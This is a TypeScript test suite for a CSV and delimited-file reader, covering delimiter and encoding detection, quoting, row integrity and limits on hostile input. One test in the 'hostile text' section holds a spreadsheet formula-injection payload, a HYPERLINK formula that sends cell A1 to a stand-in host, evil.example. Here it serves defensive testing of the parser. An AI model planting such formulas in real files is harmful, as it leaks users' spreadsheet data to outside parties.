import { encode } from 'node:querystring';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readDelimited } from './delimited.ts';
import { readDocument } from './read-document.ts';
import { Unreadable } from './table.ts';
import { decodeText } from './text-encoding.ts';

const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
const utf16 = (text: string, mark: boolean, big = false): Uint8Array => {
  const units = new Uint8Array((mark ? 2 : 0) + text.length * 2);
  const put = (at: number, unit: number): void => {
    units[at] = big ? unit >> 8 : unit & 255;
    units[at + 1] = big ? unit & 255 : unit >> 8;
  };
  if (mark) put(0, 0xfeff);
  for (let at = 0; at < text.length; at += 1) put((mark ? 2 : 0) + at * 2, text.charCodeAt(at));
  return units;
};
/** Text in an 8-bit set, by the decoder's own table. */
const narrow = (encoding: string, text: string): Uint8Array => {
  const table = new Map(Array.from({ length: 256 }, (_, byte) => [new TextDecoder(encoding).decode(Uint8Array.of(byte)), byte] as const));
  return Uint8Array.from(text, (letter) => table.get(letter) ?? 63);
};
const codeOf = (read: () => unknown): string => {
  try {
    read();
  } catch (error) {
    return error instanceof Unreadable ? error.code : String(error);
  }
  return 'read';
};

describe('any delimiter', () => {
  test.each([',', ';', '\t', '|', '^', '~'])('%j', (sign) => {
    const { rows, delimiter } = readDelimited(bytes(`Last${sign}First\r\nDoe${sign}Jane\r\n`));
    expect(delimiter).toBe(sign);
    expect(rows.map(({ row, cells }) => [row, ...cells])).toEqual([
      [1, 'Last', 'First'],
      [2, 'Doe', 'Jane'],
    ]);
  });
  test('one that a spreadsheet names in its first line', () => expect(readDelimited(bytes('sep=;\nA;B\n1;2')).rows).toHaveLength(2));
  test.each(['\n', '\r\n', '\r'])('line ends %j', (end) =>
    expect(readDelimited(bytes(['a,b', 'c,d', 'e,f'].join(end))).rows).toHaveLength(3),
  );
});

test('a cell may hold delimiters, quotation marks and lines', () => {
  const { rows } = readDelimited(bytes('name,note\n"Doe, ""JJ""","line 1\nline 2"\n'));
  expect(rows[1]?.cells).toEqual(['Doe, "JJ"', 'line 1\nline 2']);
});

describe('no row swallows another', () => {
  const rowsOf = (text: string) => readDelimited(bytes(text)).rows.map(({ cells }) => cells);
  test('a line that ends otherwise than its neighbours', () =>
    expect(rowsOf('Last,First,City\r\nRoe,Rick,Salem\nPoe,Ed,Lynn\r\nDoe,Jane,Boston\rLow,Al,Troy')).toEqual([
      ['Last', 'First', 'City'],
      ['Roe', 'Rick', 'Salem'],
      ['Poe', 'Ed', 'Lynn'],
      ['Doe', 'Jane', 'Boston'],
      ['Low', 'Al', 'Troy'],
    ]));
  test('any cells, any mix of line ends: rows in are rows out', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', 'ñ', '"', ',', ';', ' ', '\n', "'", '7') });
    const row = fc.tuple(fc.constantFrom('x', 'y"', '"z', 'a,b'), cell, cell, fc.constantFrom('\n', '\r\n', '\r'));
    const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 12 }), (rows) => {
        const text = rows.map(([first, second, third, end]) => `${[first, second, third].map(quoted).join(',')},!${end}`).join('');
        expect(rowsOf(`sep=,\n${text}`)).toEqual(rows.map(([first, second, third]) => [first, second, third, '!']));
      }),
    );
  });
  test('a quotation mark out of place marks its own row only', () => {
    const { rows } = readDelimited(
      bytes('Last,First,DOB,City\nDoe,"Jane" A,1961-03-04,Boston\n"Roe","Rick","1970-07-08","Salem"\n"Poe","Ed",,"a\nb"'),
    );
    expect(rows).toEqual([
      { row: 1, cells: ['Last', 'First', 'DOB', 'City'], marks: [] },
      { row: 2, cells: ['Doe', '"Jane" A', '1961-03-04', 'Boston'], marks: [[0, 'quote']] },
      { row: 3, cells: ['Roe', 'Rick', '1970-07-08', 'Salem'], marks: [] },
      { row: 4, cells: ['Poe', 'Ed', '', 'a\nb'], marks: [] },
    ]);
  });
  test('the rest of a row that was torn in two is marked too', () => {
    const { rows } = readDelimited(bytes('Last,First\n"Jane "JJ\nmore" Doe",x\nRoe,"Rick"\n'));
    expect(rows.map(({ marks }) => marks.length)).toEqual([0, 1, 1, 0]);
  });
  test('where it can’t be told on which line a row ends the file is refused', () =>
    expect(codeOf(() => readDelimited(bytes('a,b\n"Doe,Jane\n"Roe","Rick"\n')))).toBe('file-quote-open'));
  test('any place of any mark in one row leaves the others as they are, or the file is refused', () => {
    const torn = fc.string({ unit: fc.constantFrom('a', 'b', '"', ',', ' ') });
    fc.assert(
      fc.property(torn, (row) => {
        const read: (readonly string[])[] = [];
        const text = `"p","q"\n!${row}\n"r","s"\n`;
        const code = codeOf(() => {
          read.push(...rowsOf(`sep=,\n${text}`));
        });
        if (code === 'read') expect([read.at(0), read.at(-1), read.length]).toEqual([['p', 'q'], ['r', 's'], 3]);
      }),
    );
  });
});

describe('any encoding', () => {
  const list = 'Apellido,Nombre,Nota\nMuñoz,José,“¡Sí!” — año\nGarcía,Ángel,über\nO’Brien,Zoë,naïve\n';
  test.each([
    ['utf-8', bytes(list)],
    ['utf-8', bytes(`\ufeff${list}`)],
    ['utf-16le', utf16(list, true)],
    ['utf-16be', utf16(list, true, true)],
    ['utf-16le', utf16(list, false)],
    ['utf-16be', utf16(list, false, true)],
    ['windows-1252', narrow('windows-1252', list)],
    ['macintosh', narrow('macintosh', list)],
  ])('%s', (encoding, file) => expect(decodeText(file)).toEqual({ encoding, text: list }));
  test('UTF-8 with a damaged byte stays UTF-8, and the damage is seen in its place', () => {
    const damaged = (mark: string): Uint8Array => {
      const file = bytes(`${mark}Muñoz,José,García`);
      return file.map((byte, at) => (at === file.length - 3 ? 0xed : byte));
    };
    const read = { encoding: 'utf-8', text: 'Muñoz,José,Garc\ufffd\ufffda' };
    expect(decodeText(damaged(''))).toEqual(read);
    expect(decodeText(damaged('\ufeff'))).toEqual(read);
  });
  test('Cyrillic and Japanese sets are left to the detector', () => {
    const russian = 'Фамилия,Имя\nИванов,Сергей\nКузнецова,Мария\nПетров,Алексей\nСмирнова,Екатерина\n';
    expect(decodeText(narrow('windows-1251', russian)).text).toBe(russian);
  });
});

describe('hostile text', () => {
  test('a quotation mark that is never closed is refused before it shifts a column', () => {
    expect(codeOf(() => readDelimited(bytes('a,b\n"Doe,Jane\nRoe,Rick\n')))).toBe('file-quote-open');
  });
  test('a thousand columns are read, one more is refused', () => {
    expect(readDelimited(bytes(`${'x,'.repeat(999)}x\n`)).columns).toBe(1000);
    expect(codeOf(() => readDelimited(bytes(`${'x,'.repeat(1000)}x\n`)))).toBe('file-too-large');
  });
  test('a million empty rows are no rows', () => {
    const { rows } = readDelimited(bytes(`a,b\n${'\n'.repeat(500_000)}${',\n'.repeat(500_000)}c,d\n`));
    expect(rows.map(({ row }) => row)).toEqual([1, 1_000_002]);
  });
  test('a huge cell is cut at the longest length, with a mark', () => {
    const { rows } = readDelimited(bytes(`a,b\n${'x'.repeat(1_000_000)},y\n`));
    expect(rows[1]?.cells.map((cell) => cell.length)).toEqual([32_767, 1]);
    expect(rows[1]?.marks).toEqual([[0, 'cut']]);
  });
  test('more rows than an import takes are refused', () => {
    expect(codeOf(() => readDelimited(bytes('a,b\n'.repeat(200_001))))).toBe('file-too-large');
  });
  test.each([
    ['a PDF', '%PDF-1.7\n1,2'],
    ['a picture', '\u0089PNG\r\n'],
    ['nothing', '', 'file-empty'],
    ['blank lines', '\n\n  \n', 'file-empty'],
  ])('%s is no table', (_what, text, code = 'file-not-table') =>
    expect(
      codeOf(() =>
        readDocument(
          Uint8Array.from(text, (sign) => sign.charCodeAt(0)),
          null,
        ),
      ),
    ).toBe(code),
  );
  test('NULs stay where they are, for the records to refuse', () => {
    expect(readDelimited(bytes('name,x\nDo\u0000e,1\n')).rows[1]?.cells[0]).toBe('Do\u0000e');
  });
  test('a formula is a text like any other', () => {
    const formula = `=HYPERLINK("http://evil.example/?${encode({ leak: 'A1' })}","x")`;
    expect(readDelimited(bytes(`name\tnote\n${formula}\tx\n`)).rows[1]?.cells[0]).toBe(formula);
  });
});
